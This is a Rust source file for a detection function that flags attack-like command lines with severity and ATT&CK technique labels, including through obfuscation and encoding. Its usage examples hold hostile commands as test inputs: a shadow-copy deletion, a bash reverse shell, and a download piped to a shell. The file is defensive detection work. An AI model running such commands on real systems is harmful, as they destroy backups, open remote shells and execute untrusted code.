//! `command_risk(text [, options])`: what in a command line looks like an attack.

mod file;
mod plain;
mod rule;
mod set;
#[cfg(test)]
mod tests;

use crate::decode::{Limits, Unpacker};
use crate::prelude::*;
use plain::{Plain, cut};
pub use rule::{Rule, Severity, System};
use set::{BUILT_IN, RuleSet};
use std::sync::Arc;

/// Options of `command_risk`.
#[derive(Debug, Clone)]
pub struct RiskOptions {
    platform: System,
    min_severity: Severity,
    rules: Arc<RuleSet>,
}

impl Default for RiskOptions {
    fn default() -> Self {
        Self { platform: System::Any, min_severity: Severity::Low, rules: Arc::clone(&BUILT_IN) }
    }
}

impl Options for RiskOptions {
    const FIELDS: &'static [OptionField] = &[
        OptionField {
            name: "min_severity",
            kind: OptionKind::Choice(Severity::NAMES),
            default: "'low'",
            doc: "The lowest severity that is reported.",
        },
        OptionField {
            name: "platform",
            kind: OptionKind::Choice(System::NAMES),
            default: "'any'",
            doc: "Where the command lines are from: rules for the other system are left out.",
        },
        OptionField {
            name: "rules",
            kind: OptionKind::File,
            default: "NULL",
            doc: "Path of a YAML file with rules of your own. One with the name of a built-in rule takes its place.",
        },
    ];

    fn set(&mut self, name: &str, setting: Setting) -> Result<(), String> {
        match (name, setting) {
            ("min_severity", Setting::Text(severity)) => self.min_severity = Severity::parse(&severity).unwrap_or(Severity::Low),
            ("platform", Setting::Text(system)) => self.platform = System::parse(&system).unwrap_or_default(),
            ("rules", Setting::File { path, text }) => {
                let rules = RuleSet::with(&text).map_err(|problem| format!("names the file '{path}', which is wrong: {problem}"))?;
                self.rules = Arc::new(rules);
            }
            _ => {}
        }
        Ok(())
    }
}

/// A rule that matched.
#[derive(Debug, Clone)]
pub struct Finding<'r> {
    /// The rule; `None` where the text was longer than is looked at.
    pub rule: Option<&'r Rule>,
    /// What it matched, as written.
    pub matched: String,
    /// Whether that was in something the text holds encoded.
    pub decoded: bool,
}

impl Finding<'_> {
    /// Name of the rule.
    pub fn name(&self) -> &str {
        self.rule.map_or("text_cut", |rule| &rule.name)
    }

    /// Its severity.
    pub fn severity(&self) -> Severity {
        self.rule.map_or(Severity::Medium, |rule| rule.severity)
    }
}

impl SqlValue for Finding<'_> {
    const TYPE: SqlType = SqlType::Struct(&[
        ("rule", SqlType::Text),
        ("severity", SqlType::Text),
        ("techniques", SqlType::List(&SqlType::Text)),
        ("description", SqlType::Text),
        ("matched", SqlType::Text),
        ("decoded", SqlType::Bool),
    ]);
    fn write(&self, out: &mut Column) {
        out.row()
            .put(self.name())
            .put(self.severity().name())
            .put(self.rule.map(|rule| rule.techniques.as_slice()).unwrap_or_default())
            .put(self.rule.map_or(TEXT_CUT, |rule| rule.description.as_str()))
            .put(self.matched.as_str())
            .put(self.decoded)
            .end();
    }
}

const TEXT_CUT: &str = "The text is longer than 64 KiB, of which no command line has need: only so much of it was looked at.";

/// Kernel of `command_risk`.
pub struct CommandRisk;

impl ScalarKernel for CommandRisk {
    const SPEC: Spec = Spec {
        name: "command_risk",
        family: Family::Process,
        summary: "Finds what in a command line looks like an attack: rules with severity and ATT&CK techniques, matched through obfuscation and encoding.",
        details: include_str!("command_risk.md"),
        args: &[Arg { name: "text", doc: "A command line or a script." }],
        examples: &[
            Example {
                sql: "SELECT r['rule'] AS rule, r['severity'] AS severity, r['techniques'][1] AS technique, r['matched'] AS matched FROM \
                      (SELECT unnest(command_risk('cmd /c v^ssa^dmin delete shadows /all /quiet')) AS r) s",
                result: "shadow_copy_delete | critical | T1490 | v^ssa^dmin delete shadows",
            },
            Example {
                sql: "SELECT r['rule'] AS rule, r['severity'] AS severity, r['decoded'] AS decoded FROM \
                      (SELECT unnest(command_risk('powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==')) AS r) s",
                result: "powershell_encoded_command | medium | false\ndiscovery_user | low | true",
            },
            Example {
                sql: "SELECT id, r['rule'] AS rule FROM (SELECT id, unnest(command_risk(cmd, {'platform': 'linux', 'min_severity': 'high'})) AS r FROM \
                      (VALUES (1, 'ls -l'), (2, 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'), (3, 'curl -s http://192.0.2.1/x | sh')) v(id, cmd)) s ORDER BY id",
                result: "2 | reverse_shell_bash\n3 | download_piped_to_shell",
            },
        ],
    };
    type Args<'a> = (&'a str,);
    type Options = RiskOptions;
    type Out<'a> = Vec<Finding<'a>>;
    type Scratch = Scanner;

    fn eval<'a>(scanner: &'a mut Scanner, options: &'a RiskOptions, (text,): (&'a str,)) -> KernelResult<Vec<Finding<'a>>> {
        Ok(Some(scanner.scan(text, options)))
    }
}

/// Bytes of a text, or of what it holds encoded, that are looked at.
const LONGEST: usize = 64 << 10;

/// What is decoded of one text. Below 16 characters base64 holds no command worth a rule.
const LIMITS: Limits = Limits { max_bytes: 1 << 20, max_depth: 8, max_members: 32, max_ratio: 100, min_length: 16 };

/// Matches text after text; keeps its buffers.
#[derive(Debug, Default)]
pub struct Scanner {
    unpacker: Unpacker,
    plain: Plain,
    marked: Vec<bool>,
}

impl Scanner {
    /// The rules that match `text`, each once, the gravest first.
    pub fn scan<'o>(&mut self, text: &str, options: &'o RiskOptions) -> Vec<Finding<'o>> {
        let (text, was_cut) = cut(text, LONGEST);
        let mut found = Vec::new();
        if was_cut {
            found.push((usize::MAX, Finding { rule: None, matched: String::new(), decoded: false }));
        }
        self.ask(text, options, false, &mut found);
        for item in self.unpacker.unpack(text, &LIMITS) {
            if let Some(text) = item.text() {
                self.ask(cut(text, LONGEST).0, options, true, &mut found);
            }
        }
        found.sort_by_key(|(index, _)| *index);
        found.into_iter().map(|(_, finding)| finding).collect()
    }

    /// Asks the rules about a text as it is and without its disguise.
    fn ask<'o>(&mut self, text: &str, options: &'o RiskOptions, decoded: bool, found: &mut Vec<(usize, Finding<'o>)>) {
        self.match_rules(text, options, found, |start, end| Finding {
            rule: None,
            matched: text.get(start..end).unwrap_or_default().to_owned(),
            decoded,
        });
        let mut plain = std::mem::take(&mut self.plain);
        if plain.strip(text) {
            self.match_rules(plain.text(), options, found, |start, end| Finding {
                rule: None,
                matched: plain.original(text, start, end).to_owned(),
                decoded,
            });
        }
        self.plain = plain;
    }

    fn match_rules<'o>(
        &mut self,
        text: &str,
        options: &'o RiskOptions,
        found: &mut Vec<(usize, Finding<'o>)>,
        finding: impl Fn(usize, usize) -> Finding<'o>,
    ) {
        if !options.rules.candidates(text, &mut self.marked) {
            return;
        }
        let candidates = options.rules.rules.iter().zip(&self.marked).enumerate().filter(|(_, (_, marked))| **marked);
        for (index, (rule, _)) in candidates {
            let wanted = rule.severity >= options.min_severity && rule.system.meets(options.platform);
            if wanted
                && found.iter().all(|(other, _)| *other != index)
                && let Some((start, end)) = rule.find(text)
            {
                found.push((index, Finding { rule: Some(rule), ..finding(start, end) }));
            }
        }
    }
}
